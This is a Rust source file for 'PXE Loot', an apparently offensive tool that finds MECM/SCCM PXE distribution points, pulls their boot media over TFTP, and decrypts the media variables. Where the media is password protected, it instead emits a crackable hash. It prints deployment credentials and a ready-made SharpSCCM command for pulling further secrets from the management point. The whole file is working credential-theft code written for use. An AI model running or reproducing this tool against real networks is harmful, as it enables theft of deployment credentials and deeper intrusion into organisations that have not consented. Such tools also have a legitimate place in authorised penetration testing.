//! PXE Loot - Main executable
//!
//! Coaxes MECM PXE distribution points into handing out their boot media,
//! then decrypts the media variables file (or emits a crackable hash when
//! the media is password protected) and prints the deployment credentials
//! found inside.

mod util;

use std::net::{Ipv4Addr, SocketAddr};
use std::path::PathBuf;
use std::time::Duration;

use anyhow::{Context, Result, anyhow};
use argh::FromArgs;
use dhcp::{BootClient, DhcpOption, MECM_BOOT_PORT};
use media::{BlobReference, MediaVariables, RawOption};
use tftp::TransferConfig;

use crate::util::{format_mac, get_interface_ip, get_interface_mac};

const TFTP_PORT: u16 = 69;

/// How long to collect answers to the discover broadcast.
const DISCOVER_WINDOW: Duration = Duration::from_secs(10);

#[derive(FromArgs, Debug)]
#[argh(
    description = "PXE Loot - extract deployment credentials from MECM PXE boot media",
    example = "Discover distribution points and loot their media:\n  {command_name} explore -i eth0",
    example = "Query a known distribution point:\n  {command_name} explore -i eth0 -a 192.0.2.50",
    example = "Decrypt saved media with a cracked password:\n  {command_name} decrypt -p password -f ./media.boot.var"
)]
struct Cli {
    #[argh(subcommand)]
    command: Command,
}

#[derive(FromArgs, Debug)]
#[argh(subcommand)]
enum Command {
    Explore(ExploreArgs),
    Decrypt(DecryptArgs),
}

/// query the network for PXE servers and pull their boot media
#[derive(FromArgs, Debug)]
#[argh(subcommand, name = "explore")]
struct ExploreArgs {
    #[argh(
        option,
        short = 'i',
        description = "network interface to discover PXE servers on"
    )]
    interface: Option<String>,

    #[argh(
        option,
        short = 'a',
        description = "address of a PXE-enabled distribution point, skipping discovery"
    )]
    address: Option<Ipv4Addr>,
}

/// decrypt a downloaded media file with a recovered password
#[derive(FromArgs, Debug)]
#[argh(subcommand, name = "decrypt")]
struct DecryptArgs {
    #[argh(option, short = 'p', description = "password to decrypt the media file with")]
    password: String,

    #[argh(option, short = 'f', description = "path to the downloaded media file")]
    media_file: PathBuf,
}

#[tokio::main]
async fn main() -> Result<()> {
    tracing_subscriber::fmt::init();

    let cli: Cli = argh::from_env();
    match cli.command {
        Command::Explore(args) => explore(args).await,
        Command::Decrypt(args) => decrypt(args),
    }
}

async fn explore(args: ExploreArgs) -> Result<()> {
    if args.interface.is_none() && args.address.is_none() {
        return Err(anyhow!("either --interface or --address is required"));
    }

    let (mac, client_ip) = match args.interface.as_deref() {
        Some(name) => {
            let mac = get_interface_mac(name)
                .with_context(|| format!("no link address on interface '{}'", name))?;
            let ip = get_interface_ip(name)
                .with_context(|| format!("no IPv4 address on interface '{}'", name))?;
            tracing::info!("Using interface {} ({}, {})", name, format_mac(&mac), ip);
            (mac, ip)
        }
        // Without an interface the request goes out with an anonymous
        // client identity, like a stateless prober would.
        None => ([0u8; 6], Ipv4Addr::UNSPECIFIED),
    };

    let bind: SocketAddr = (Ipv4Addr::UNSPECIFIED, 68).into();
    let client = BootClient::bind(bind, mac, client_ip).context(
        "failed to bind UDP port 68 (root privileges are usually required)",
    )?;

    let servers = match args.address {
        Some(address) => vec![address],
        None => {
            tracing::info!("Searching for PXE boot servers...");
            let found = client.discover(DISCOVER_WINDOW).await?;
            if found.is_empty() {
                return Err(anyhow!("no PXE servers answered the discover broadcast"));
            }
            found
        }
    };

    let mut failures = 0;
    for server in &servers {
        tracing::info!("Querying distribution point {}", server);
        if let Err(e) = loot_server(&client, *server).await {
            tracing::error!("{}: {:#}", server, e);
            failures += 1;
        }
    }

    if failures == servers.len() {
        return Err(anyhow!("no distribution point yielded boot media"));
    }
    Ok(())
}

/// Pull the media variables file off one distribution point and process it.
async fn loot_server(client: &BootClient, server: Ipv4Addr) -> Result<()> {
    let options = client
        .request_boot_media(SocketAddr::from((server, MECM_BOOT_PORT)))
        .await?;

    let reference = parse_media_reference(&options)?;

    // The boot descriptor is informational; media extraction works without
    // it.
    match media::parse_boot_descriptor(&options) {
        Ok(descriptor) => tracing::info!("Boot descriptor: {}", descriptor),
        Err(e) => tracing::warn!("{}", e),
    }

    tracing::info!("Media variables file: {}", reference.media_path());
    let file = tftp::download(
        SocketAddr::from((server, TFTP_PORT)),
        reference.media_path(),
        &TransferConfig::default(),
    )
    .await?;

    let local_name = local_file_name(reference.media_path());
    std::fs::write(local_name, &file).with_context(|| format!("failed to save {}", local_name))?;
    tracing::info!("Saved media file to ./{}", local_name);

    match reference {
        BlobReference::BlankKey { encrypted_key, .. } => {
            tracing::info!("Media has a blank password; recovering the key from the boot reply");
            let password = media::recover_media_password(&encrypted_key)?;
            let document = media::decrypt_media_file(&file, &password)?;
            let variables = media::extract_variables(&document)?;
            print_variables(&variables);
        }
        BlobReference::PasswordProtected { .. } => {
            tracing::info!("Media is password protected; emitting a crackable hash");
            let header =
                media::media_file_header(&file).ok_or_else(|| anyhow!("media file shorter than its header"))?;
            println!("{}", media::format_crack_hash(&header));
            println!("  Crack it with the configmgr-cryptderivekey hashcat module:");
            println!("  https://github.com/MWR-CyberSec/configmgr-cryptderivekey-hashcat-module");
            println!(
                "  Then run: pxe-loot decrypt -p <password> -f ./{}",
                local_name
            );
        }
    }

    Ok(())
}

fn decrypt(args: DecryptArgs) -> Result<()> {
    let file = std::fs::read(&args.media_file)
        .with_context(|| format!("failed to read {}", args.media_file.display()))?;

    let secret = media::password_bytes(&args.password);
    let document = media::decrypt_media_file(&file, &secret)?;
    let variables = media::extract_variables(&document)?;
    print_variables(&variables);

    Ok(())
}

fn parse_media_reference(options: &[RawOption]) -> Result<BlobReference> {
    let media_option = options
        .iter()
        .find(|option| option.number == DhcpOption::MediaReference as u8)
        .ok_or_else(|| anyhow!("boot reply carried no media reference (option 243)"))?;

    Ok(media::parse_blob_reference(&media_option.data)?)
}

/// Last component of a backslash-separated remote path.
fn local_file_name(remote_path: &str) -> &str {
    remote_path.rsplit('\\').next().unwrap_or(remote_path)
}

fn print_variables(variables: &MediaVariables) {
    println!("Management point: {}", variables.management_point);
    println!("Site code: {}", variables.site_code);
    println!("Media GUID (PFX password): {}", variables.media_guid);
    println!("Unknown x64 machine GUID: {}", variables.unknown_machine_guid);
    println!("Recover secrets from the management point with:");
    println!(
        "  SharpSCCM.exe get secrets -i \"{{{}}}\" -m \"{}\" -c \"{}\" -sc {} -mp {}",
        variables.unknown_machine_guid,
        variables.media_guid,
        variables.media_pfx,
        variables.site_code,
        variables.management_point_dns()
    );
}
